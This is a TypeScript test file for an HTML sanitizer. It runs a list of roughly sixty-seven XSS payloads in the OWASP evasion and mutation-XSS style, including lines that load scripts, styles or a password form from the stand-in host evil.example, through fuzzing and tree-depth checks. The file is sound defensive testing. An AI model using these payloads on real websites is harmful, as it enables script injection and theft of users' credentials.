import { readdirSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { ContentEntry } from "../../../pb_migrations/content/types.ts";
import { runs } from "../../../tests/support/fuzz.ts";
import { TooLarge } from "./parse.ts";
import { cleanHtml as cleanOrRefuse } from "./sanitize.ts";
import { outline } from "./text.ts";

const CONTENT = new URL("../../../pb_migrations/content/", import.meta.url);

/** Attacks in the style of OWASP's filter evasion list and of published mutation attacks. */
const NASTY = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<<SCRIPT>alert(1);//<</SCRIPT>",
  "<script/src=//evil.example/x>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<img src="javascript:alert(1)">',
  "<img src=javascript:alert(1)>",
  "<IMG SRC=JaVaScRiPt:alert(1)>",
  '<img src="/x.png" onerror="alert(1)">',
  "<img src=/x.png onload=alert(1)//",
  '<img """><script>alert(1)</script>">',
  '<img src="jav\tascript:alert(1)">',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src=" &#14; javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/\\evil.example/pixel.gif">',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a.png 1x" src="/a.png">',
  '<img src="/a.png" alt="<h2 x>y</h2>" title="</h2><script>alert(1)</script>">',
  '<img src="/a.png" style="width:expression(alert(1))">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="http://plain.example">x</a>',
  '<a href="/ok" onclick="alert(1)" target="_blank" ping="https://evil.example">x</a>',
  "<a onmouseover=alert(1)>x</a>",
  "<style>@import 'https://evil.example/x.css';</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<body onload=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<textarea></textarea><img src=x onerror=alert(1)>",
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  "<title><img src=x onerror=alert(1)></title>",
  "<select><style><img src=x onerror=alert(1)></style></select>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<plaintext><script>alert(1)</script>",
  '<p id="root" name="body" class="prose fixed">x</p>',
  '<h2 id="x\' onclick=alert(1)">x</h2>',
  "<td><img src=/x onerror=alert(1)></td>",
  '<aside class="note fixed inset-0">x</aside>',
  "<x-y onclick=alert(1)>text</x-y>",
];

/** The only tags of a clean body: nothing else is between angle brackets. */
const CLEAN_TAG =
  /^<\/?(?:h[2-4]|p|br|hr|[uo]l|li|d[ltd]|blockquote|pre|code|kbd|strong|em|b|i|s|u|del|ins|su[bp]|small|mark|abbr|cite|q|time|a|img|figure|figcaption|details|summary|aside|table|caption|col|colgroup|thead|tbody|tfoot|t[rhd])(?: (?:id|href|rel|title|src|alt|width|height|loading|start|reversed|type|colspan|rowspan|scope|span|open|class|datetime)(?:="[^"<>]*")?)*>$/;

function cleanHtml(html: string): string {
  const clean = cleanOrRefuse(html);
  if (clean === null) throw new Error(`does not come to rest: ${html}`);
  return clean;
}

function expectClean(html: string): void {
  for (const [tag] of html.matchAll(/<[^>]*>?/g)) expect(tag).toMatch(CLEAN_TAG);
  for (const [, address = ""] of html.matchAll(/ (?:href|src)="([^"]*)"/g))
    expect(address).toMatch(/^(?:\/(?![/\\])|#|https:\/\/|mailto:)/i);
  expect(html).not.toMatch(/<img[^>]* src="(?!\/[^/\\])/);
}

describe("cleanHtml", () => {
  it.each(NASTY)("leaves nothing dangerous of %s", (html) => {
    const clean = cleanHtml(html);
    expectClean(clean);
    expect(cleanHtml(clean)).toBe(clean);
    // The page's own processing adds nothing either.
    expectClean(outline(`<h2>a</h2>${clean}<h3>b</h3>`).body);
  });

  it("stays clean whatever is put together, and a second time changes nothing", () => {
    const pieces = fc.array(
      fc.oneof(
        fc.constantFrom(...NASTY),
        fc.string(),
        fc.constantFrom("<p>", "</p>", "<a>", "<table>", "</td>", "<!--", "-->", '"', "<svg>"),
      ),
      {
        maxLength: 6,
      },
    );
    fc.assert(
      fc.property(pieces, (parts) => {
        const clean = cleanHtml(parts.join(""));
        expectClean(clean);
        expect(cleanHtml(clean)).toBe(clean);
      }),
      { numRuns: runs(500) },
    );
  });

  it("keeps what an editor writes", () => {
    const body = [
      '<h2 id="a-b">A &amp; b</h2><p>Un <strong>mot</strong>, <em>deux</em> : <code>a &lt; b</code> <kbd>Ctrl</kbd><br>x</p>',
      '<ul><li>a</li></ul><ol start="3"><li>b</li></ol><blockquote><p>c</p></blockquote><hr>',
      '<pre><code class="language-sh">npm start\n</code></pre><aside class="note"><p>n</p></aside>',
      '<figure><img src="/api/files/images/a/b.webp" alt="Un pont" width="640" height="360" loading="lazy"><figcaption>l</figcaption></figure>',
      '<table><caption>t</caption><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2">d</td></tr></tbody></table>',
      "<details open><summary>s</summary><p>x</p></details>",
      '<p><a href="/blog/x#y">i</a> <a href="#y">s</a> <a href="mailto:a@b.example">m</a> <a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer">e</a></p>',
    ].join("\n");
    expect(cleanHtml(body)).toBe(body);
  });

  it("keeps the text of what it does not know", () => {
    expect(cleanHtml("<div><font color=red>a</font> <blink>b</blink></div>")).toBe("a b");
  });

  it("leaves every document that comes with the product as it is", async () => {
    const files = readdirSync(CONTENT, { recursive: true, encoding: "utf8" });
    const entries = files.filter((file) => /\/[a-z-]+\.ts$/.test(file));
    expect(entries.length).toBeGreaterThan(18);
    for (const file of entries) {
      const { entry } = (await import(new URL(file, CONTENT).href)) as { entry: ContentEntry };
      for (const { body } of [entry.fr, entry.en]) expect(cleanHtml(body.trim()), file).toBe(body.trim());
    }
  });
});

describe("a text that becomes too large a tree", () => {
  const marks = Array.from({ length: 95 }, (_, index) => `<b title=${index}>`).join("");
  it.each([
    ["deep elements", "<i>".repeat(60_000)],
    ["deep tables", "<table><tr><td>".repeat(101)],
    ["marks that open again in each paragraph", `<p>${marks}x${"<p>x".repeat(300)}`],
    ["a long link that opens again in each paragraph", `<p><a title="${"t".repeat(1000)}">x${"<p>x".repeat(500)}`],
    ["deep lists", "<ul><li>".repeat(101)],
    ["items of two lists in each other", "<li><dd>".repeat(500)],
    ["groups of options", "<optgroup>".repeat(500)],
    ["closing tags in comments", "<div><!--</div>-->".repeat(500)],
    ["closing tags behind a table cell", `${marks}<table><td>${"</b>".repeat(95)}${marks}`],
    ["templates", "<template><!--</template>-->".repeat(500)],
  ])("is refused: %s", (_, html) => expect(() => cleanOrRefuse(html)).toThrow(TooLarge));

  it.each([
    "<p>a<li>b<br>".repeat(5000),
    "<p><b>a</b></p>".repeat(9000),
    "a < b <",
    // An old mail, whose fonts nobody has closed.
    `${Array.from({ length: 20 }, (_, index) => `<font size=${index}>`).join("")}${"<p>x".repeat(500)}`,
    "<table><tr><td>x</table>".repeat(4000),
  ])("is not %#", (html) => expect(cleanOrRefuse(html)).not.toBeNull());
});
